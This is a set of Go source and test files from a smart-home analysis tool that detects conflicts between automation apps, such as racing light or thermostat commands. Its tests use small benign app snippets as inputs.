		for _, p := range x.postings[id] {
			if p&1 == 0 {
				continue
			}
			slot := p >> 1
			if x.mark[slot] != x.stamp {
				x.mark[slot] = x.stamp
				buf = append(buf, slot)
			}
		}
	}
	tail := buf[base:]
	sort.Slice(tail, func(i, j int) bool { return tail[i] < tail[j] })
	return buf
}
