package detect

import (
	"fmt"
	"math/rand"
	"testing"

	"homeguard/internal/rule"
)

// randomFootprint draws a footprint over a universe of nChan channel
// names: each channel is read with pRead and written with pWrite,
// independently, so footprints can read-only, write-only, overlap
// themselves, or be empty.
func randomFootprint(rng *rand.Rand, nChan int, pRead, pWrite float64) *rule.Footprint {
	fp := rule.NewFootprint()
	for c := 0; c < nChan; c++ {
		name := fmt.Sprintf("chan%d", c)
		if rng.Float64() < pRead {
			fp.AddRead(name)
		}
		if rng.Float64() < pWrite {
			fp.AddWrite(name)
		}
	}
	return fp
}

// TestIndexCandidatesMatchBruteForce is the posting lists' soundness and
// completeness property: for randomized footprints at several densities,
// the candidate set the index generates for each app must equal the
// brute-force all-pairs set filtered by SharesChannel — no pair missed
// (soundness of skipping the rest), no disjoint pair generated
// (completeness of the prune).
func TestIndexCandidatesMatchBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	for _, cfg := range []struct {
		apps, chans   int
		pRead, pWrite float64
	}{
		{apps: 40, chans: 200, pRead: 0.02, pWrite: 0.01}, // sparse
		{apps: 30, chans: 20, pRead: 0.3, pWrite: 0.2},    // dense
		{apps: 25, chans: 8, pRead: 0.6, pWrite: 0.5},     // near-total overlap
		{apps: 20, chans: 50, pRead: 0.1, pWrite: 0.0},    // read-only writers absent
	} {
		for trial := 0; trial < 20; trial++ {
			fps := make([]*rule.Footprint, cfg.apps)
			idx := NewFootprintIndex()
			for i := range fps {
				fps[i] = randomFootprint(rng, cfg.chans, cfg.pRead, cfg.pWrite)
				if slot := idx.Add(fps[i]); slot != i {
					t.Fatalf("Add returned slot %d, want %d", slot, i)
				}
			}
			for j := range fps {
				got := map[int]bool{}
				for _, s := range idx.AppendCandidates(fps[j], nil) {
					got[int(s)] = true
				}
				for i := range fps {
					want := fps[j].SharesChannel(fps[i])
					if got[i] != want {
						t.Fatalf("cfg %+v trial %d: candidate(%d,%d) = %v, brute force = %v\nfp[i]=%s\nfp[j]=%s",
							cfg, trial, i, j, got[i], want, fps[i], fps[j])
					}
				}
			}
		}
	}
}

// TestIndexUpdateRewritesPostings pins the reconfigure path: after Update,
// candidates reflect only the new footprint — stale postings from the old
// channels are gone, new channels are live.
func TestIndexUpdateRewritesPostings(t *testing.T) {
	idx := NewFootprintIndex()
	a := rule.NewFootprint()
	a.AddWrite("light.switch")
	idx.Add(a)

	b := rule.NewFootprint()
	b.AddRead("light.switch")
	slotB := idx.Add(b)

	query := rule.NewFootprint()
	query.AddWrite("light.switch")
	if got := idx.AppendCandidates(query, nil); len(got) != 2 {
		t.Fatalf("precondition: both apps touch light.switch, candidates = %v", got)
	}

	// B is rebound: it now reads the lock channel instead.
	b2 := rule.NewFootprint()
	b2.AddRead("lock.lock")
	idx.Update(slotB, b2)

	if got := idx.AppendCandidates(query, nil); len(got) != 1 || got[0] != 0 {
		t.Errorf("after Update, light.switch candidates = %v, want [0]", got)
	}
	lockQ := rule.NewFootprint()
	lockQ.AddWrite("lock.lock")
	if got := idx.AppendCandidates(lockQ, nil); len(got) != 1 || int(got[0]) != slotB {
		t.Errorf("after Update, lock.lock candidates = %v, want [%d]", got, slotB)
	}

	// Randomized update churn against brute force.
	rng := rand.New(rand.NewSource(7))
	fps := make([]*rule.Footprint, 15)
	churn := NewFootprintIndex()
	for i := range fps {
		fps[i] = randomFootprint(rng, 30, 0.2, 0.15)
		churn.Add(fps[i])
	}
	for step := 0; step < 50; step++ {
		slot := rng.Intn(len(fps))
		fps[slot] = randomFootprint(rng, 30, 0.2, 0.15)
		churn.Update(slot, fps[slot])
		j := rng.Intn(len(fps))
		got := map[int]bool{}
		for _, s := range churn.AppendCandidates(fps[j], nil) {
			got[int(s)] = true
		}
		for i := range fps {
			if want := fps[j].SharesChannel(fps[i]); got[i] != want {
				t.Fatalf("step %d: candidate(%d,%d) = %v, brute force = %v", step, i, j, got[i], want)
			}
		}
	}
}

// TestInstallIndexStats checks the install path's index accounting: the
// skipped rule pairs land in both PairsPruned and PairsSkippedByIndex,
// and candidates in PairsIndexed.
func TestInstallIndexStats(t *testing.T) {
	apps := storeSubset(t, 25)
	d := New(Options{})
	for _, ia := range apps {
		d.Install(ia)
	}
	st := d.Stats()
	if st.PairsIndexed == 0 {
		t.Error("index generated no candidate pairs on the store corpus")
	}
	if st.PairsSkippedByIndex == 0 {
		t.Error("index skipped no pairs on the store corpus; expected sparse overlap")
	}
	if st.PairsSkippedByIndex != st.PairsPruned {
		t.Errorf("on the index path every pruned pair is index-skipped: skipped=%d pruned=%d",
			st.PairsSkippedByIndex, st.PairsPruned)
	}
	// The ablation path reports no index work at all.
	d2 := New(Options{DisablePruning: true})
	for _, ia := range storeSubset(t, 25) {
		d2.Install(ia)
	}
	if st2 := d2.Stats(); st2.PairsIndexed != 0 || st2.PairsSkippedByIndex != 0 {
		t.Errorf("DisablePruning must bypass the index: indexed=%d skipped=%d",
			st2.PairsIndexed, st2.PairsSkippedByIndex)
	}
}
