package detect

import (
	"testing"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
)

// TestThermostatSetpointEffectConstraint covers the paper's explicit
// Condition-Interference example: "if R1 sets the heating temperature of a
// thermostat to a value T and R2 uses a temperature sensor in its
// condition, the effect constraint is tSensor.temperature >= T."
func TestThermostatSetpointEffectConstraint(t *testing.T) {
	heatTo75 := `
definition(name: "Preheat", namespace: "x", author: "x",
    description: "Preheat before arrival.", category: "c")
input "presence1", "capability.presenceSensor"
input "thermostat1", "capability.thermostat"
def installed() { subscribe(presence1, "presence.present", go) }
def go(evt) { thermostat1.setHeatingSetpoint(75) }
`
	coldGuard := `
definition(name: "ColdGuard", namespace: "x", author: "x",
    description: "Alert the lamp when the room is cold at night.", category: "c")
input "tSensor", "capability.temperatureMeasurement"
input "contact1", "capability.contactSensor"
input "lamp1", "capability.switch"
def installed() { subscribe(contact1, "contact.open", go) }
def go(evt) {
    if (tSensor.currentTemperature < 60) { lamp1.on() }
}
`
	d := New(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["thermostat1"] = "dev-thermo"
	installApp(t, d, heatTo75, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["lamp1"] = "dev-lamp"
	cfg2.DeviceTypes["lamp1"] = envmodel.LightDev
	threats := installApp(t, d, coldGuard, cfg2)

	// Setting the heating setpoint to 75 bounds the sensed temperature
	// from below; temp < 60 then becomes unsatisfiable → DC.
	dc := hasKind(threats, DisablingCond)
	if dc == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("setpoint-bounded DC not detected (the paper's thermostat example)")
	}
	if dc.R1.App != "Preheat" || dc.R2.App != "ColdGuard" {
		t.Errorf("DC direction: %s -> %s", dc.R1.App, dc.R2.App)
	}
}

// TestSetpointEnablesWhenConsistent: the same setpoint effect with a
// condition the bound can satisfy yields EC, not DC.
func TestSetpointEnablesWhenConsistent(t *testing.T) {
	heatTo75 := `
definition(name: "Preheat", namespace: "x", author: "x",
    description: "Preheat before arrival.", category: "c")
input "presence1", "capability.presenceSensor"
input "thermostat1", "capability.thermostat"
def installed() { subscribe(presence1, "presence.present", go) }
def go(evt) { thermostat1.setHeatingSetpoint(75) }
`
	warmFan := `
definition(name: "WarmFan", namespace: "x", author: "x",
    description: "Run the fan when the room is warm.", category: "c")
input "tSensor", "capability.temperatureMeasurement"
input "contact1", "capability.contactSensor"
input "fan1", "capability.switch"
def installed() { subscribe(contact1, "contact.open", go) }
def go(evt) {
    if (tSensor.currentTemperature > 70) { fan1.on() }
}
`
	d := New(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["thermostat1"] = "dev-thermo"
	installApp(t, d, heatTo75, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["fan1"] = "dev-fan"
	cfg2.DeviceTypes["fan1"] = envmodel.Fan
	threats := installApp(t, d, warmFan, cfg2)
	var found *Threat
	for i := range threats {
		if threats[i].Kind == EnablingCondition && threats[i].R1.App == "Preheat" {
			found = &threats[i]
		}
	}
	if found == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("setpoint EC not detected")
	}
}

// TestSameCommandConflictingParams: the paper's AR definition includes
// "the same command with contradictory parameters" (setLevel(100) vs
// setLevel(10)).
func TestSameCommandConflictingParams(t *testing.T) {
	bright := `
definition(name: "FullBright", namespace: "x", author: "x",
    description: "Full brightness on motion.", category: "c")
input "motion1", "capability.motionSensor"
input "dimmer1", "capability.switchLevel"
def installed() { subscribe(motion1, "motion.active", go) }
def go(evt) { dimmer1.setLevel(100) }
`
	dim := `
definition(name: "MoodDim", namespace: "x", author: "x",
    description: "Dim for the evening.", category: "c")
input "contact1", "capability.contactSensor"
input "dimmer1", "capability.switchLevel"
def installed() { subscribe(contact1, "contact.open", go) }
def go(evt) { dimmer1.setLevel(10) }
`
	d := New(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["dimmer1"] = "dev-dimmer"
	installApp(t, d, bright, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["dimmer1"] = "dev-dimmer"
	threats := installApp(t, d, dim, cfg2)
	if hasKind(threats, ActuatorRace) == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("setLevel(100) vs setLevel(10) should be an Actuator Race candidate")
	}
}

func TestSameCommandSameParamsNoRace(t *testing.T) {
	a := `
definition(name: "AppA", namespace: "x", author: "x", description: "d", category: "c")
input "motion1", "capability.motionSensor"
input "dimmer1", "capability.switchLevel"
def installed() { subscribe(motion1, "motion.active", go) }
def go(evt) { dimmer1.setLevel(50) }
`
	b := `
definition(name: "AppB", namespace: "x", author: "x", description: "d", category: "c")
input "contact1", "capability.contactSensor"
input "dimmer1", "capability.switchLevel"
def installed() { subscribe(contact1, "contact.open", go) }
def go(evt) { dimmer1.setLevel(50) }
`
	d := New(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["dimmer1"] = "dev-dimmer"
	installApp(t, d, a, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["dimmer1"] = "dev-dimmer"
	threats := installApp(t, d, b, cfg2)
	if ar := hasKind(threats, ActuatorRace); ar != nil {
		t.Errorf("identical setLevel(50) should not race: %s", *ar)
	}
}

// TestIntraAppBranchesDoNotSelfRace: LetThereBeDark-style apps whose two
// branches issue opposite commands under complementary trigger values must
// not be flagged as racing with themselves.
func TestIntraAppBranchesDoNotSelfRace(t *testing.T) {
	src := `
definition(name: "DoorLights", namespace: "x", author: "x",
    description: "Lights follow the door.", category: "c")
input "contact1", "capability.contactSensor"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(contact1, "contact", go) }
def go(evt) {
    if (evt.value == "open") {
        lights.on()
    } else {
        lights.off()
    }
}
`
	d := New(Options{})
	cfg := NewConfig()
	cfg.Devices["contact1"] = "dev-door"
	cfg.Devices["lights"] = "dev-lights"
	cfg.DeviceTypes["lights"] = envmodel.LightDev
	threats := installApp(t, d, src, cfg)
	if ar := hasKind(threats, ActuatorRace); ar != nil {
		t.Errorf("complementary branches cannot co-occur; race is a false positive: %s", *ar)
	}
}

// TestConfiguredThresholdTightensDetection: binding user thresholds can
// rule threats out — ComfortTV with threshold 30 and a second app only
// active below 20 degrees cannot overlap.
func TestConfiguredThresholdTightensDetection(t *testing.T) {
	warmOpen := `
definition(name: "WarmOpen", namespace: "x", author: "x",
    description: "Open the window opener when warm.", category: "c")
input "tSensor", "capability.temperatureMeasurement"
input "window1", "capability.switch"
input "warm", "number"
def installed() { subscribe(tSensor, "temperature", go) }
def go(evt) {
    if (evt.doubleValue > warm) { window1.on() }
}
`
	coldClose := `
definition(name: "ColdClose", namespace: "x", author: "x",
    description: "Close the window opener when cold.", category: "c")
input "tSensor", "capability.temperatureMeasurement"
input "window1", "capability.switch"
input "cold", "number"
def installed() { subscribe(tSensor, "temperature", go) }
def go(evt) {
    if (evt.doubleValue < cold) { window1.off() }
}
`
	run := func(warm, cold int64) []Threat {
		d := New(Options{})
		cfg1 := NewConfig()
		cfg1.Devices["tSensor"] = "dev-temp"
		cfg1.Devices["window1"] = "dev-window"
		cfg1.DeviceTypes["window1"] = envmodel.WindowOpener
		cfg1.Values["warm"] = rule.IntVal(warm)
		installApp(t, d, warmOpen, cfg1)
		cfg2 := NewConfig()
		cfg2.Devices["tSensor"] = "dev-temp"
		cfg2.Devices["window1"] = "dev-window"
		cfg2.DeviceTypes["window1"] = envmodel.WindowOpener
		cfg2.Values["cold"] = rule.IntVal(cold)
		return installApp(t, d, coldClose, cfg2)
	}
	// Disjoint thresholds (warm=30, cold=20): the same reading can never
	// satisfy both → no race.
	if ar := hasKind(run(30, 20), ActuatorRace); ar != nil {
		t.Errorf("disjoint thresholds should not race: %s", *ar)
	}
	// Overlapping thresholds (warm=20, cold=30): readings in (20,30) fire
	// both → race.
	if hasKind(run(20, 30), ActuatorRace) == nil {
		t.Error("overlapping thresholds should race")
	}
}
