package detect

import (
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/symexec"
)

// storeSubset extracts a deterministic slice of the store corpus.
func storeSubset(t *testing.T, n int) []*InstalledApp {
	t.Helper()
	apps := corpus.StoreAudit()
	if n > len(apps) {
		n = len(apps)
	}
	out := make([]*InstalledApp, 0, n)
	for _, a := range apps[:n] {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Fatalf("%s: %v", a.Name, err)
		}
		out = append(out, NewInstalledApp(res, nil))
	}
	return out
}

func runAudit(t *testing.T, apps []*InstalledApp, opts Options) (map[Kind]int, Stats) {
	t.Helper()
	d := New(opts)
	counts := map[Kind]int{}
	for _, ia := range apps {
		for _, th := range d.Install(ia) {
			counts[th.Kind]++
		}
	}
	return counts, d.Stats()
}

// TestAuditDeterministic: the same corpus audited twice yields identical
// per-kind counts (no map-iteration nondeterminism leaks into results).
func TestAuditDeterministic(t *testing.T) {
	apps := storeSubset(t, 25)
	c1, _ := runAudit(t, apps, Options{})
	apps2 := storeSubset(t, 25)
	c2, _ := runAudit(t, apps2, Options{})
	for _, k := range AllKinds {
		if c1[k] != c2[k] {
			t.Errorf("kind %s: run1=%d run2=%d", k, c1[k], c2[k])
		}
	}
}

// TestFilteringDoesNotChangeFindings: the M_AR/M_GC candidate filters are
// an optimization — disabling them must not change which threats are
// reported, only how much solving happens.
func TestFilteringDoesNotChangeFindings(t *testing.T) {
	apps := storeSubset(t, 20)
	withF, stWith := runAudit(t, apps, Options{})
	apps2 := storeSubset(t, 20)
	withoutF, stWithout := runAudit(t, apps2, Options{DisableFiltering: true})
	for _, k := range AllKinds {
		if withF[k] != withoutF[k] {
			t.Errorf("kind %s: filtered=%d unfiltered=%d", k, withF[k], withoutF[k])
		}
	}
	if stWithout.SolverCalls <= stWith.SolverCalls {
		t.Errorf("disabling filtering should increase solver calls: %d vs %d",
			stWithout.SolverCalls, stWith.SolverCalls)
	}
}

// TestReuseDoesNotChangeFindings: solving-result reuse is also pure
// optimization.
func TestReuseDoesNotChangeFindings(t *testing.T) {
	apps := storeSubset(t, 20)
	withR, _ := runAudit(t, apps, Options{})
	apps2 := storeSubset(t, 20)
	withoutR, _ := runAudit(t, apps2, Options{DisableReuse: true})
	for _, k := range AllKinds {
		if withR[k] != withoutR[k] {
			t.Errorf("kind %s: reuse=%d no-reuse=%d", k, withR[k], withoutR[k])
		}
	}
}

// TestDetectPairSymmetricKinds: AR and GC are undirected — swapping the
// pair order must find them in both orders; directed kinds flip direction.
func TestDetectPairSymmetricKinds(t *testing.T) {
	apps := storeSubset(t, 12)
	for i := 0; i < len(apps); i++ {
		for j := i + 1; j < len(apps); j++ {
			d1 := New(Options{})
			d2 := New(Options{})
			for _, r1 := range apps[i].Rules.Rules {
				for _, r2 := range apps[j].Rules.Rules {
					f := kindSet(d1.DetectPair(apps[i], r1, apps[j], r2))
					b := kindSet(d2.DetectPair(apps[j], r2, apps[i], r1))
					for _, k := range AllKinds {
						if f[k] != b[k] {
							t.Fatalf("pair (%s,%s) kind %s asymmetric: %v vs %v",
								r1.QualifiedID(), r2.QualifiedID(), k, f, b)
						}
					}
				}
			}
		}
	}
}

func kindSet(ts []Threat) map[Kind]bool {
	m := map[Kind]bool{}
	for _, t := range ts {
		m[t.Kind] = true
	}
	return m
}

// TestWitnessSatisfiesBothRules: every reported AR witness must satisfy
// both rules' situation formulas (soundness of the reported situation).
func TestWitnessSatisfiesBothRules(t *testing.T) {
	apps := storeSubset(t, 30)
	d := New(Options{})
	for _, ia := range apps {
		for _, th := range d.Install(ia) {
			if th.Kind != ActuatorRace || th.Witness == nil {
				continue
			}
			// The witness was extracted from the merged formula's model;
			// spot-check that every witness variable has a value.
			for name, v := range th.Witness {
				if name == "" || v.String() == "" {
					t.Errorf("malformed witness entry %q=%v in %s", name, v, th)
				}
			}
		}
	}
}

func BenchmarkDetectPair(b *testing.B) {
	apps := corpus.StoreAudit()
	resA, _ := symexec.Extract(apps[0].Source, "")
	resB, _ := symexec.Extract(apps[1].Source, "")
	iaA := NewInstalledApp(resA, nil)
	iaB := NewInstalledApp(resB, nil)
	d := New(Options{})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.DetectPair(iaA, iaA.Rules.Rules[0], iaB, iaB.Rules.Rules[0])
	}
}
