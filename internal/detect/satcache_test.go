package detect

import (
	"testing"

	"homeguard/internal/solver"
)

// Three apps driving one shared light. "Lock" and "Auto Lock" are named so
// that one is a substring of the other: the old substring-based satCache
// eviction would clear "Auto Lock" entries when "Lock" is reconfigured.

const lockSrc = `
definition(name: "Lock", namespace: "repro", author: "x",
    description: "Turn the light on at a tap.", category: "Convenience")
input "light1", "capability.switch"
def installed() { subscribe(app, appTouch) }
def updated() { subscribe(app, appTouch) }
def appTouch(evt) { light1.on() }
`

const autoLockSrc = `
definition(name: "Auto Lock", namespace: "repro", author: "x",
    description: "Turn the light off at a tap.", category: "Green Living")
input "light1", "capability.switch"
def installed() { subscribe(app, appTouch) }
def updated() { subscribe(app, appTouch) }
def appTouch(evt) { light1.off() }
`

const guardSrc = `
definition(name: "Guard", namespace: "repro", author: "x",
    description: "Turn the light on at a tap.", category: "Safety")
input "light1", "capability.switch"
def installed() { subscribe(app, appTouch) }
def updated() { subscribe(app, appTouch) }
def appTouch(evt) { light1.on() }
`

func sharedLightConfig() *Config {
	cfg := NewConfig()
	cfg.Devices["light1"] = "dev-light"
	return cfg
}

// TestReconfigureEvictsExactlyTargetSatEntries: reconfiguring an app must
// recompute every satCache entry the app participates in (stale verdicts
// cannot survive a binding change) while leaving every other entry alone —
// including entries of an app whose name merely contains the reconfigured
// app's name, which substring matching on cache keys used to over-evict.
//
// The test poisons every entry with a sentinel witness before the
// reconfigure: an entry that still carries the sentinel afterwards was
// kept, one that lost it was evicted and recomputed.
func TestReconfigureEvictsExactlyTargetSatEntries(t *testing.T) {
	d := New(Options{})
	installApp(t, d, lockSrc, sharedLightConfig())
	installApp(t, d, autoLockSrc, sharedLightConfig())
	installApp(t, d, guardSrc, sharedLightConfig())

	involves := func(r satResult, app string) bool {
		return r.apps[0] == app || r.apps[1] == app
	}
	var withLock, withoutLock int
	sentinel := solver.Model{"__sentinel__": solver.Value{}}
	for k, r := range d.satCache {
		if involves(r, "Lock") {
			withLock++
		} else {
			withoutLock++
		}
		r.witness = sentinel
		d.satCache[k] = r
	}
	if withLock == 0 || withoutLock == 0 {
		t.Fatalf("need entries both with and without Lock to test eviction precision, got %d/%d",
			withLock, withoutLock)
	}

	if _, err := d.Reconfigure("Lock", sharedLightConfig()); err != nil {
		t.Fatalf("Reconfigure: %v", err)
	}

	for k, r := range d.satCache {
		_, stale := r.witness["__sentinel__"]
		if involves(r, "Lock") && stale {
			t.Errorf("entry %q involves Lock but survived its reconfigure", k)
		}
		if !involves(r, "Lock") && !stale {
			t.Errorf("entry %q (apps %v) does not involve Lock but was evicted", k, r.apps)
		}
	}
}
