package detect

import (
	"encoding/json"
	"fmt"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
)

// This file is the wire codec for threat slices, used by the pair-verdict
// cache's persistent snapshot: a cached verdict (the full []Threat of one
// app pair) round-trips through MarshalThreats/UnmarshalThreats. Rules
// serialize in the rule package's tagged JSON wire format; witnesses are
// plain name→value maps (solver.Value has only exported scalar fields).
// Restored threats reference freshly built *rule.Rule values rather than
// the extraction-shared originals — everything detection and reporting
// read from a cached verdict (kind, qualified rule IDs, rendered rules,
// property, witness, note) is preserved byte for byte.

type threatJSON struct {
	Kind     Kind                    `json:"kind"`
	R1       *rule.Rule              `json:"r1"`
	R2       *rule.Rule              `json:"r2"`
	Property string                  `json:"property,omitempty"`
	Witness  map[string]solver.Value `json:"witness,omitempty"`
	Note     string                  `json:"note,omitempty"`
}

// MarshalThreats serializes a detection verdict (order-preserving; an
// empty or nil slice marshals to a valid empty verdict).
func MarshalThreats(ts []Threat) ([]byte, error) {
	out := make([]threatJSON, 0, len(ts))
	for _, t := range ts {
		out = append(out, threatJSON{
			Kind: t.Kind, R1: t.R1, R2: t.R2,
			Property: string(t.Property),
			Witness:  t.Witness,
			Note:     t.Note,
		})
	}
	return json.Marshal(out)
}

// UnmarshalThreats parses a verdict produced by MarshalThreats.
func UnmarshalThreats(b []byte) ([]Threat, error) {
	var in []threatJSON
	if err := json.Unmarshal(b, &in); err != nil {
		return nil, fmt.Errorf("detect: unmarshal threats: %w", err)
	}
	out := make([]Threat, 0, len(in))
	for i, tj := range in {
		if tj.R1 == nil || tj.R2 == nil {
			return nil, fmt.Errorf("detect: unmarshal threats: entry %d missing a rule", i)
		}
		t := Threat{
			Kind: tj.Kind, R1: tj.R1, R2: tj.R2,
			Property: envmodel.Property(tj.Property),
			Note:     tj.Note,
		}
		if len(tj.Witness) > 0 {
			t.Witness = solver.Model(tj.Witness)
		}
		out = append(out, t)
	}
	return out, nil
}
