// Package detect implements the HomeGuard threat detector (Sec. VI): given
// the rules extracted from the apps installed in one home plus each app's
// installation configuration, it discovers Cross-App Interference threats
// in all seven categories of Table I — Actuator Race (AR), Goal Conflict
// (GC), Covert Triggering (CT), Self Disabling (SD), Loop Triggering (LT),
// Enabling-Condition (EC) and Disabling-Condition (DC) interference — and
// chains of user-accepted interferences (Sec. VI-D).
package detect

import (
	"fmt"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
	"homeguard/internal/symexec"
)

// Kind is a CAI threat category (Table I acronym).
type Kind string

// Threat categories.
const (
	ActuatorRace      Kind = "AR"
	GoalConflict      Kind = "GC"
	CovertTriggering  Kind = "CT"
	SelfDisabling     Kind = "SD"
	LoopTriggering    Kind = "LT"
	EnablingCondition Kind = "EC"
	DisablingCond     Kind = "DC"
)

// AllKinds lists the seven categories in Table I order.
var AllKinds = []Kind{
	ActuatorRace, GoalConflict, CovertTriggering, SelfDisabling,
	LoopTriggering, EnablingCondition, DisablingCond,
}

// Class returns the basic class of the threat kind.
func (k Kind) Class() string {
	switch k {
	case ActuatorRace, GoalConflict:
		return "Action-Interference"
	case CovertTriggering, SelfDisabling, LoopTriggering:
		return "Trigger-Interference"
	case EnablingCondition, DisablingCond:
		return "Condition-Interference"
	}
	return "Unknown"
}

// Threat is one discovered interference between two rules. For directed
// kinds (CT, SD, LT, EC, DC) R1 is the interfering rule and R2 the
// interfered-with rule.
type Threat struct {
	Kind     Kind
	R1, R2   *rule.Rule
	Property envmodel.Property // shared goal property for GC and env-mediated CT/EC/DC
	Witness  solver.Model      // a concrete situation in which the threat manifests
	Note     string
}

func (t Threat) String() string {
	s := fmt.Sprintf("[%s] %s ↔ %s", t.Kind, t.R1.QualifiedID(), t.R2.QualifiedID())
	if t.Property != "" {
		s += fmt.Sprintf(" (property %s)", t.Property)
	}
	if t.Note != "" {
		s += ": " + t.Note
	}
	return s
}

// Config is the installation-time configuration of one app (the paper's
// configuration information, Sec. VII): device bindings to 128-bit device
// IDs, user-provided values, and device types for generic switches.
type Config struct {
	// Devices maps device-input names to physical device IDs.
	Devices map[string]string
	// Values maps value-input names to the configured value.
	Values map[string]rule.Term
	// ValueLists holds multi-select values (e.g. selected modes).
	ValueLists map[string][]string
	// DeviceTypes classifies generic-switch devices (from the NLP
	// description classifier, or user input).
	DeviceTypes map[string]envmodel.DeviceType
}

// NewConfig returns an empty configuration.
func NewConfig() *Config {
	return &Config{
		Devices:     map[string]string{},
		Values:      map[string]rule.Term{},
		ValueLists:  map[string][]string{},
		DeviceTypes: map[string]envmodel.DeviceType{},
	}
}

// InstalledApp couples extraction output with install-time configuration.
type InstalledApp struct {
	Info   symexec.AppInfo
	Rules  *rule.RuleSet
	Config *Config

	// comp, fp and sig are filled by the owning detector at
	// Install/Reconfigure (see prepare): the app's compiled rule set
	// (canonical formulas, declaration plans, effects — compile.go), its
	// canonical read/write footprint and its verdict-cache signature. All
	// are pure functions of the exported fields, so an InstalledApp
	// installed into several detectors gets the same values each time —
	// but the writes are unsynchronized, so one instance must not be
	// installed into different detectors concurrently (build a fresh
	// InstalledApp per home, as the fleet does).
	comp *CompiledRuleSet
	fp   *rule.Footprint
	sig  []byte
}

// NewInstalledApp wraps an extraction result. A nil config selects
// type-level device identity (the store-audit mode of Sec. VIII-B).
func NewInstalledApp(res *symexec.Result, cfg *Config) *InstalledApp {
	if cfg == nil {
		cfg = NewConfig()
	}
	return &InstalledApp{Info: res.App, Rules: res.Rules, Config: cfg}
}

// Options tune the detector; the zero value enables everything.
type Options struct {
	// DisableFiltering skips the M_AR/M_GC candidate pre-filters and runs
	// constraint solving for every pair (ablation for DESIGN.md §1).
	DisableFiltering bool
	// DisableReuse disables constraint-solving result reuse across threat
	// kinds (ablation for the Fig. 9 green arrows).
	DisableReuse bool
	// DisablePruning disables the footprint-disjointness pair prune
	// (ablation): every app pair goes through full detection even when the
	// two rule sets share no interference channel.
	DisablePruning bool
	// Modes is the home's mode universe (defaults to Home/Away/Night).
	Modes []string
	// SolverNodeCap overrides the constraint-search node budget per solver
	// call (0 keeps the solver default of 200k). When a query exhausts the
	// budget the detector reports it conservatively as satisfiable and
	// CheckPair surfaces solver.ErrSearchLimit.
	SolverNodeCap int
	// Verdicts, when non-nil, shares whole app-pair detection verdicts
	// across detectors (internal/pairverdict implements it). The detector
	// addresses each unpruned app pair by a content hash of both apps'
	// canonical rule sets, configurations and the mode list; a hit skips
	// every solver call for the pair.
	Verdicts PairVerdictCache
}

// PairVerdictCache caches app-pair detection verdicts across homes.
// Detect returns the threats cached under key when present; otherwise it
// runs compute (at most once per key, fleet-wide — concurrent callers
// coalesce), stores the result and returns it. The boolean reports a hit.
// Implementations must be goroutine-safe; compute runs while the calling
// detector's lock is held, so it must not acquire detector locks itself.
// Cached threats are shared between homes and must be treated as
// immutable by callers.
type PairVerdictCache interface {
	Detect(key PairKey, compute func() []Threat) ([]Threat, bool)
}

// Stats counts detector work for the efficiency evaluation (Fig. 9).
type Stats struct {
	PairsChecked    int
	SolverCalls     int
	SolverCacheHits int
	// SearchLimitHits counts solver calls that exhausted their node budget
	// and degraded to the conservative satisfiable-without-witness verdict
	// (surfaced as an error by CheckPair).
	SearchLimitHits int
	// PairsPruned counts rule pairs skipped outright by the footprint
	// prune (disjoint interference channels — provably no threat).
	PairsPruned int
	// PairsIndexed counts candidate app pairs the footprint-channel index
	// generated (pairs that share at least one channel and therefore went
	// through full detection or the verdict cache).
	PairsIndexed int
	// PairsSkippedByIndex counts rule pairs the index never generated as
	// candidates (disjoint footprints). These pairs are also counted in
	// PairsPruned — the index skips exactly the set the scan path's
	// per-pair footprint check would have rejected — so the two counters
	// stay comparable across the index and scan paths.
	PairsSkippedByIndex int
	// PairVerdictHits and PairVerdictMisses count app-pair lookups in the
	// shared verdict cache. Hits skip all solving for the pair: the rule
	// pairs served still count into PairsChecked ("verdict obtained"), but
	// Candidates, Found and the Filter/Solve timings record only work this
	// detector ran itself — a home fed from the cache reports threats
	// without growing Found, by design.
	PairVerdictHits   int
	PairVerdictMisses int
	Candidates        map[Kind]int
	Found             map[Kind]int
	// FilterNS and SolveNS accumulate per-kind candidate-filtering and
	// constraint-solving time in nanoseconds (Fig. 9's two components).
	FilterNS map[Kind]int64
	SolveNS  map[Kind]int64
}

func newStats() Stats {
	return Stats{
		Candidates: map[Kind]int{},
		Found:      map[Kind]int{},
		FilterNS:   map[Kind]int64{},
		SolveNS:    map[Kind]int64{},
	}
}
