// Package envmodel captures how device commands influence measurable home
// environment properties (the goal analysis of Sec. VI-A1) and which
// environment property each sensor capability measures. The detector uses
// it for Goal Conflict candidates (M_GC) and for environment-mediated
// Trigger-/Condition-Interference channels (e.g. "turning on the heater
// raises the reading of any temperature sensor").
package envmodel

import "strings"

// Property is a measurable environment feature.
type Property string

// Goal properties tracked by the model.
const (
	Temperature Property = "temperature"
	Illuminance Property = "illuminance"
	Humidity    Property = "humidity"
	Power       Property = "power" // instantaneous electrical draw
	Noise       Property = "noise"
	Moisture    Property = "moisture"
	AirQuality  Property = "airQuality"
)

// Properties lists all goal properties in a stable order.
var Properties = []Property{
	Temperature, Illuminance, Humidity, Power, Noise, Moisture, AirQuality,
}

// Sign is a qualitative effect direction.
type Sign int

// Effect signs: the paper's + (increasing), − (decreasing), # (irrelevant);
// Varies covers parameterised commands (e.g. setLevel) whose direction
// depends on the argument.
const (
	None Sign = iota
	Increase
	Decrease
	Varies
)

// String renders the sign in the paper's notation.
func (s Sign) String() string {
	switch s {
	case Increase:
		return "+"
	case Decrease:
		return "-"
	case Varies:
